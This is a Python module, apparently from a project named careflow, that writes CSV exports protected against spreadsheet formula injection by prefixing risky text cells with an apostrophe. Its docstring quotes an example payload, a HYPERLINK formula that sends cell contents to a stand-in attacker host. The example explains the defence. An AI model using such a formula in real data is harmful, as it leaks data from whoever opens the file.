"""Every CSV careflow writes, written one way: safe to open in a spreadsheet.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, and so after leading white space, a tab or a carriage return (and
the full-width ``＝`` some read as ``=``). A customer named
``=HYPERLINK("https://evil.example/?"&A1, "click")`` would put a live formula
on the screen of whoever opens the export (CSV or formula injection, OWASP).
So such a text cell gets a leading apostrophe, which spreadsheets read as
"this is text" and do not show. Numbers stay numbers: a typed number, and a
text cell that is a plain decimal number (``-3.5``, an amount), is written
as it is, so a negative amount column still sums. Control and bidi
characters are written out as ``\\uXXXX`` (careflow/safe_text.py), tabs and
line feeds excepted: CSV carries those in quoted cells.
"""

from __future__ import annotations

import csv
import io
import math
import re
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import date
from numbers import Number
from pathlib import Path
from typing import TextIO

from careflow.safe_text import active_chars

#: a plain decimal number, as careflow writes amounts and counts
_NUMBER = re.compile(r"-?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")
_FORMULA_START = frozenset("=+-@")


def cell(value: object) -> str:
    """``value`` as one CSV cell a spreadsheet shows as written."""
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    if isinstance(value, Number) and not isinstance(value, bool):
        return str(value)
    text = value.isoformat() if isinstance(value, date) else str(value)
    shown = active_chars(text, keep="\t\n")
    return "'" + shown if _formula_like(text) else shown


def _formula_like(text: str) -> bool:
    if not text or _NUMBER.fullmatch(text):
        return False
    if text[0] in "\t\r\n":
        return True
    first = text.lstrip()[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in _FORMULA_START


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Iterable]) -> None:
    """``header`` and ``rows`` to ``out`` as CSV, every cell through ``cell``."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([cell(h) for h in header])
    writer.writerows([cell(v) for v in row] for row in rows)


def write_csv_file(path: Path, header: Sequence[str], rows: Iterable[Iterable]) -> None:
    """``write_csv`` into the file at ``path`` (UTF-8)."""
    with open(path, "w", newline="", encoding="utf-8") as out:
        write_csv(out, header, rows)


def write_frame(frame, path: Path) -> None:
    """A pandas DataFrame (its columns, not its index) into the file at ``path``."""
    clean = frame.astype(object).where(frame.notna(), None)
    write_csv_file(path, [str(c) for c in frame.columns], clean.itertuples(index=False, name=None))


def csv_text(header: Sequence[str], rows: Iterable[Iterable]) -> str:
    """``write_csv`` into a string."""
    out = io.StringIO()
    write_csv(out, header, rows)
    return out.getvalue()
